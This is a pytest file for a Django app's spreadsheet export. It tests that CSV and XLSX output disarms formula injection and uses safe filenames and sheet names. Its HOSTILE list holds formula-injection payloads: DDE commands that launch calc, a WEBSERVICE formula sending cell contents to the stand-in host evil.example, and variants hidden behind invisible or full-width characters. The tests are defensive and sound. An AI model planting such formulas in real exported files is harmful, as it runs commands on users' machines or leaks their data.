"""Files for spreadsheets: what they hold, and that nothing in them is ever computed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.http import HttpResponse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from winback.common.sheets import (
    CSV,
    XLSX,
    csv_response,
    harmless,
    sheet_response,
    xlsx_response,
)

#: Cells a spreadsheet would compute, run or fetch: by sign, by width, behind what is invisible.
HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example";"Rechnung")',
    '=WEBSERVICE("https://evil.example/"&A1)', '=IMPORTXML("https://evil.example";"//a")',
    '=DDE("cmd";"/C calc";"x")', "=SUM(A1:A9)", "=A1", "==1", "=+1", "=-1", "=@x", '="a"', "= 1",
    "=\u00a01", "=1+1;2", "={1;2}", "=_xlfn.CONCAT(1)", "=1\n+1", "=",
    "+1+1", "+49 30 1234", "+cmd|' /C calc'!A0", "++1", "+", "+A1", "+SUM(1)", "+ 1",
    "-1+1", "-", "--5", "-²", "-1,5,5", "-1,", "-5 %", "-A1", "-cmd|' /C calc'!A0", "- 1",
    "@SUM(A1)", "@", "@x", "@A1", "@ 1",
    "\t=1", "\r=1", "\n=1", "\tText", "\r\n=1", "\n", "\t@x",
    "  =1+1", "\u00a0=1+1", "\u2003=1", "\u3000=1", "\u2009+1", "\u202f-1+1", "   @x",
    "＝1+1", "＋1", "－1", "＠x", "＝cmd|x!A0", " ＝1", "\u3000＠x", "＝", "＋A1",
    "﹦1", "﹢1", "﹣1", "﹫x",
    "\u200b=1", "\u200e=1", "\u202e=1", "\ufeff=1", "\u2060=1", "\u200b @x", "\u2066=1",
]  # fmt: skip
PLAIN: list[tuple[Any, str]] = [
    ("-1,5", "-1,5"), ("-1.250,00", "-1.250,00"), ("-7", "-7"), (-7, "-7"),
    (Decimal("-1250.50"), "-1250,50"), (Decimal("1E+2"), "100"),
    (dt.date(2026, 11, 24), "24.11.2026"),
    ("1,5", "1,5"), ("−1,5", "−1,5"), ("Norhagen = Bau", "Norhagen = Bau"),
    ("a@b.example", "a@b.example"), ("– ", "– "), ("", ""), ("   ", "   "), (None, ""), (0, "0"),
    (True, "True"), ("Müller & Söhne", "Müller & Söhne"),
]  # fmt: skip


def sheet_of(response: HttpResponse) -> Worksheet:
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def test_there_are_enough_hostile_cells() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_compute_is_disarmed_in_both(text: str) -> None:
    assert harmless(text) == f"'{text}"
    cell = sheet_of(xlsx_response("x", ["A"], [[text]]))["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert str(cell.value).startswith("'")


@pytest.mark.parametrize(("cell", "text"), PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(cell: object, text: str) -> None:
    assert harmless(cell) == text


def test_a_hostile_heading_is_disarmed_too() -> None:
    assert sheet_of(xlsx_response("x", ["=1"], []))["A1"].value == "'=1"


def test_csv_opens_in_german_spreadsheets() -> None:
    rows = [["Norhagen; Bau", '"AG"', Decimal("-1.5")], ["zwei\nZeilen", None, "=1"]]
    response = csv_response("Faelle", ["Kunde", "Name", "=Wert"], rows)
    body = response.content.decode("utf-8")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith("\ufeffKunde;Name;'=Wert\r\n")
    assert list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))[1:] == [
        ["Norhagen; Bau", '"AG"', "-1,5"],
        ["zwei\nZeilen", "", "'=1"],
    ]


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("Zusagen", 'attachment; filename="Zusagen.csv"'),
        ("Fälle", "attachment; filename*=utf-8''F%C3%A4lle.csv"),
        ('a"; x="b', 'attachment; filename="a\\"; x=\\"b.csv"'),
    ],
)
def test_file_has_a_name_that_every_browser_reads(name: str, header: str) -> None:
    assert csv_response(name, [], []).headers["Content-Disposition"] == header


def test_csv_without_rows_has_its_header() -> None:
    assert csv_response("x", ["A", "B"], []).content.decode() == "\ufeffA;B\r\n"


def test_workbook_holds_real_numbers_and_dates() -> None:
    day = dt.date(2026, 11, 24)
    rows = [["Norhagen", Decimal("1900000.50"), 3, day, None], ["Auental", Decimal(7), 0, day, "–"]]
    sheet = sheet_of(xlsx_response("Fälle", ["Kunde", "Wert", "Zahl", "Tag", "Leer"], rows))
    name, value, count, date, nothing = sheet[2]
    assert (name.value, value.value, count.value) == ("Norhagen", 1900000.5, 3)
    assert (str(date.value), date.number_format) == ("2026-11-24 00:00:00", "DD.MM.YYYY")
    assert (value.number_format, sheet["B3"].number_format) == ("#,##0.00", "#,##0")
    assert nothing.value is None


def test_workbook_is_ready_to_filter() -> None:
    sheet = sheet_of(xlsx_response("Fälle", ["Kunde", "Wert"], [["A", 1], ["B", 2]]))
    assert sheet.title == "Fälle"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet["A1"].font.b


@pytest.mark.parametrize(
    "text", ["\x00\x01weg", "a\x0bb", "x" * 40_000, "😀" * 20_000, "\ud7ff\ufffe", "]]>", "<a>&"]
)
def test_workbook_takes_any_text(text: str) -> None:
    value = sheet_of(xlsx_response("x", ["A"], [[text]]))["A2"].value
    assert len(str(value)) <= 32_000


@pytest.mark.parametrize("name", ["", "a/b\\c*?:[d]", "x" * 80, "'x'"])
def test_sheet_has_a_name_every_program_takes(name: str) -> None:
    title = sheet_of(xlsx_response(name, ["A"], [])).title
    assert 0 < len(title) <= 31
    assert not set(title) & set("/\\*?:[]'")


def test_empty_workbook_opens() -> None:
    assert sheet_of(xlsx_response("x", [], [])).max_row == 1


@pytest.mark.parametrize(("kind", "ending"), [(CSV, ".csv"), (XLSX, ".xlsx")])
def test_the_kind_decides_the_file(kind: str, ending: str) -> None:
    response = sheet_response(kind, "Zusagen", ["A"], [["x"]])
    assert response.headers["Content-Disposition"].endswith(f'{ending}"')
